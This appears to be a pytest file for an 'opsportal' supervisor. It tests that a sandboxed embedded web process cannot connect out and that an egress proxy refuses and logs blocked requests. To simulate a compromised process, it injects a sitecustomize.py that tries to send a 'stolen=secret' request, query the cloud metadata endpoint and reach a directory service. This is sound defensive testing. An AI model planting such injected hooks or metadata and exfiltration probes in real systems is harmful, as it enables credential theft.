"""The process itself under the supervisor, asked from inside the real web process of the embedded default."""

from __future__ import annotations

import json
import os
import socket
import sqlite3
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from opsportal.supervisor import confine
from opsportal.supervisor.parts import confined
from opsportal.supervisor.portal import Portal

pytestmark = [pytest.mark.once, pytest.mark.timeout(240)]
CONNECT = """
import socket, sys
try:
    socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5).close()
    print("out")
except PermissionError:
    print("held")
"""
IN_ITS_PLACE = """
import json, os, socket, sys, threading, time
from pathlib import Path
def asks(port):
    said = {}
    try:
        socket.create_connection(("127.0.0.1", port), timeout=5).close()
        said["by itself"] = "out"
    except OSError as problem:
        said["by itself"] = type(problem).__name__
    from procedures.domain.errors import OpsError
    from procedures.signon import egress
    for name, call in {
        "a stranger": lambda: egress.get(f"http://127.0.0.1:{port}/?stolen=secret"),
        "metadata": lambda: egress.get("http://169.254.169.254/latest/meta-data/"),
        "a directory": lambda: str(egress.in_directory("x", username="a", password="b", secret="c")),
    }.items():
        try:
            said[name] = str(call())
        except OpsError as problem:
            said[name] = problem.code
    return said
def attack():
    room = Path(os.environ["OPSPORTAL_DATA_DIR"]) / "database"
    while True:
        for wish in room.glob("ask-*"):
            port = int(wish.read_text())
            wish.unlink()
            (room / "new").write_text(json.dumps(asks(port)))
            (room / "new").rename(room / wish.name.replace("ask", "said"))
        time.sleep(0.05)
if any(word.startswith("opsportal.asgi") for word in sys.orig_argv):
    threading.Thread(target=attack, daemon=True).start()
"""
REFUSED = {"by itself": "PermissionError", **dict.fromkeys(("a stranger", "metadata", "a directory"), "egress.refused")}


def connecting(prefix: tuple[str, ...], port: int) -> str:
    argv = [*prefix, sys.executable, "-c", CONNECT, str(port)]
    return subprocess.run(argv, capture_output=True, text=True, check=True).stdout.strip()


def test_the_kernel_lets_the_embedded_web_process_connect_to_nobody(data_dir: Path) -> None:
    assert confine.version() >= 4, "this kernel's Landlock holds no connections: the gate needs one that does"
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        assert connecting(confined(data_dir, no_tcp=True), port) == "held"
        assert connecting(confined(data_dir), port) == "out", "else the attempt above would prove nothing"


def until(question: Callable[[], Any], *, within_s: float = 60.0) -> Any:
    over = time.monotonic() + within_s
    while not (found := question()) and time.monotonic() < over:
        time.sleep(0.1)
    assert found
    return found


def events(data_dir: Path) -> list[dict[str, Any]]:
    with closing(sqlite3.connect(data_dir / "database" / "opsportal.sqlite3", timeout=20)) as link:
        rows = link.execute("SELECT body FROM evidence_event WHERE kind = 'egress.refused' ORDER BY id").fetchall()
    return [json.loads(bytes(body)) for (body,) in rows]


def test_a_web_process_that_is_anothers_gets_nowhere_and_the_log_says_where_it_wanted_to(
    data_dir: Path, tmp_path: Path
) -> None:
    (tmp_path / "sitecustomize.py").write_text(IN_ITS_PLACE)
    room = data_dir / "database"
    with (
        socket.create_server(("127.0.0.1", 0)) as stranger,
        Portal(data_dir, environ={"PYTHONPATH": str(tmp_path)}) as portal,
    ):
        stranger.setblocking(False)
        port = stranger.getsockname()[1]

        def asks(name: str) -> dict[str, str]:
            (room / name).write_text(str(port))
            (room / name).rename(room / f"ask-{name}")
            found: dict[str, str] = json.loads(
                until((room / f"said-{name}").exists) and (room / f"said-{name}").read_text()
            )
            return found

        assert asks("first") == REFUSED
        with pytest.raises(BlockingIOError):
            stranger.accept()
        said = [(one["asked"], one["count"]) for one in events(data_dir)]
        wanted = [f"GET http://127.0.0.1:{port}/", "GET http://169.254.169.254/latest/meta-data/", "directory x"]
        assert said == [(one, 1) for one in wanted]
        assert "NoNewPrivs:\t1" in Path(f"/proc/{portal.pid('egress')}/status").read_text(), "it sees no key either"
        _goes_and_comes_back(portal, asks)
        assert "egress.refused" in portal.log("egress").read_text()


def _goes_and_comes_back(portal: Portal, asks: Callable[[str], dict[str, str]]) -> None:
    """Held still it answers nobody, and everything else goes on; killed it is started again, and refuses as before."""
    former = portal.kill("egress")
    until(lambda: portal.living_pid("egress") not in {None, former})
    portal.wait_for("egress")
    assert portal.starts("egress") == 2
    assert asks("second") == REFUSED


def test_two_do_not_serve_one_place_and_a_network_without_a_key_is_refused(data_dir: Path) -> None:
    environ = {
        **{name: value for name, value in os.environ.items() if not name.startswith("OPSPORTAL_")},
        "OPSPORTAL_PROFILE": "embedded",
        "OPSPORTAL_DATA_DIR": str(data_dir),
        "OPSPORTAL_EGRESS": "127.0.0.1:8100",
        "DJANGO_SETTINGS_MODULE": "opsportal.settings",
    }
    argv = [sys.executable, "-m", "procedures.egress.main"]
    done = subprocess.run(argv, env=environ, capture_output=True, text=True, check=False)
    assert done.returncode == 1
    assert "OPSPORTAL_EGRESS_KEY is ********, but must be 32 characters or more" in done.stderr
    environ |= {"OPSPORTAL_EGRESS": str(data_dir / "way" / "socket")}
    first = subprocess.Popen(argv, env=environ, stderr=subprocess.DEVNULL)
    try:
        until((data_dir / "way" / "socket").exists)
        done = subprocess.run(argv, env=environ, capture_output=True, text=True, check=False)
        assert "Another egress process listens on" in done.stderr
    finally:
        first.terminate()
        assert first.wait(10) == 0
